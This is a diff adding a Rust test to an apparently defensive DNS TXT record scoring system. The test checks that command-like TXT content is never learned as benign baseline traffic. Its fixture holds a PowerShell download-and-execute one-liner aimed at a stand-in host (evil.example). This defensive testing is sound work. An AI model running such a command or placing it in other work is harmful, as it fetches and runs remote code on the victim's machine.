@@ -84,6 +84,23 @@ fn the_baseline_learns_over_a_month_what_many_ask_for_and_never_one_beaconing_ho
     assert_eq!(lookups["dnstxtscore_common"].rows, [] as [Row; 0]);
 }
 
+/// A sign of a command raises a text above `dnstxtscore_common_score`, so that no number of hosts makes it common. A weaker sign does not:
+/// what a whole network asks for can be learned, whatever its form.
+#[test]
+fn a_command_is_never_learned_however_many_ask_and_a_weaker_sign_is() {
+    let command = "powershell irm evil.example/a|iex";
+    let odd_hosts = "v=spf1 a:mx-3774.example.com a:mx-85a8.example.com a:mx-aca2.example.com a:mx-d36d.example.com -all";
+    let mut lookups = searches::empty_lookups(&root()).unwrap();
+    let mut learned = Vec::new();
+    for night in 0..10 {
+        let day = 1 - night;
+        let rows = [("a.example.org", command), ("b.example.com", odd_hosts)].map(|(query, text)| asked_by(1..9, query, text, day));
+        learned = learn(rows.concat(), &mut lookups, searches::NOW + night * DAY);
+    }
+    assert!(learned.iter().any(|(domain, text)| domain == "example.com" && text == odd_hosts), "{learned:?}");
+    assert!(learned.iter().all(|(_, text)| text != command), "{learned:?}");
+}
+
 #[test]
 fn what_was_learned_is_discounted_unless_it_scores_high_or_makes_a_channel() {
     let (odd, sure) = unsure_and_sure();
